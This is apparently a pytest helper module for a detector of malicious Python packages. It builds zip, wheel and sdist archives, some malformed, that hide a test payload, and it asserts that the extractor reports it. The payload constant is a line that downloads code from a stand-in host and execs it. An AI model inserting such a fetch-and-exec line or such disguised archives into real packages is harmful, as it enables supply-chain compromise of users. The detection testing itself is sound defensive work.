"""One inert payload and the archives to hide it in; the tests beside this file hide it."""

import gzip
import io
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest

from features.contract import Row, Status
from features.extract import extract_row
from features.limits import Limits

PAYLOAD = b'import urllib.request\nexec(urllib.request.urlopen("http://example.invalid/stage").read())\n'
"""Downloads and executes; the name resolves nowhere (RFC 2606), and nothing of it is run."""

Files = Mapping[str, bytes] | Iterable[tuple[str, bytes]]


def _pairs(files: Files) -> list[tuple[str, bytes]]:
    return list(files.items()) if isinstance(files, Mapping) else list(files)


class Make:
    """Builders of hostile archives, all of bytes; `code` is the payload."""

    code = PAYLOAD
    harmless = b"x = 1\n"
    info = ("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")

    def zip(self, files: Files, method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", method) as archive:
            for name, data in _pairs(files):
                # Not by its name alone: zipfile would warn of a second one.
                info = zipfile.ZipInfo("?" * len(name.encode()), (2020, 1, 1, 0, 0, 0))
                info.compress_type, info.external_attr, info.filename = method, 0o100644 << 16, name
                archive.writestr(info, data)
                archive.NameToInfo.clear()
            archive.comment = comment
        return made.getvalue()

    def wheel(self, files: Files = (), method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
        own = [
            ("demo-1.0.dist-info/METADATA", self.info[1]),
            ("demo-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        ]
        return self.zip([*_pairs(files), *own], method, comment)

    def member(
        self, name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "", **pax: str
    ) -> tuple[tarfile.TarInfo, bytes]:
        info = tarfile.TarInfo(name)
        info.type, info.linkname, info.size, info.pax_headers = kind, link, len(data), pax
        return info, data

    def tar(self, *members: tuple[tarfile.TarInfo, bytes], form: int = tarfile.PAX_FORMAT) -> bytes:
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w", format=form) as archive:
            for info, data in members:
                archive.addfile(info, io.BytesIO(data))
        return made.getvalue()

    def tree(self, files: Files = (), form: int = tarfile.PAX_FORMAT) -> bytes:
        """A plain tar of an sdist; names are relative to its top folder."""
        named = [(f"demo-1.0/{name}", data) for name, data in _pairs(files)]
        return self.tar(*(self.member(name, data) for name, data in [self.info, *named]), form=form)

    def sdist(self, files: Files = (), form: int = tarfile.PAX_FORMAT) -> bytes:
        return gzip.compress(self.tree(files, form), mtime=0)

    def end(self, entries: int, size: int, at: int, comment: bytes = b"") -> bytes:
        """A zip's end record."""
        return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, size, at, len(comment)) + comment

    def patched(self, data: bytes, at: int, form: str, *values: int) -> bytes:
        made = bytearray(data)
        struct.pack_into(form, made, at, *values)
        return bytes(made)


class Seen:
    """A row, and what the tests assert of it."""

    def __init__(self, row: Row) -> None:
        self.row = row

    def locations(self) -> set[tuple[str, str]]:
        return {(place.member, place.role.value) for place in self.row.evidence if place.indicator == "exec_download"}

    def is_found(self, member: str, role: str) -> None:
        """The payload's own line is evidence at `member`, and is counted under `role` (text and prose are rest)."""
        values = self.row.values
        assert (member, role if role in {"install", "import"} else "rest") in self.locations(), self.describe()
        assert (values[f"code_{role}_category_network"] or 0) >= 1, self.describe()
        assert (values[f"code_{role}_category_execution"] or 0) >= 1, self.describe()

    def is_seen(self, indicator: str, member: str) -> None:
        """Another indicator or finding than the usual one is evidence at `member`."""
        assert (indicator, member) in {(place.indicator, place.member) for place in self.row.evidence}, self.describe()

    def is_named(self, words: str) -> None:
        """What was not examined is a status other than ok, and the reason says what."""
        assert self.row.status is not Status.OK, self.describe()
        assert words in self.row.reason, self.describe()

    def describe(self) -> str:
        found = [(place.indicator, place.member, place.role.value) for place in self.row.evidence]
        odd = {name: value for name, value in self.row.values.items() if value and name.startswith("files_odd")}
        return f"{self.row.status}: {self.row.reason!r}; evidence {found}; {odd}"


@pytest.fixture
def make() -> Make:
    return Make()


@pytest.fixture
def examine(tmp_path: Path) -> Callable[..., Seen]:
    """Return `examine(data, filename, **limits) -> Seen`."""

    def read(data: bytes, filename: str = "demo-1.0.tar.gz", **limits: Any) -> Seen:
        path = tmp_path / "artifact"
        path.write_bytes(data)
        return Seen(extract_row(path, filename, Limits(**limits)))

    return read
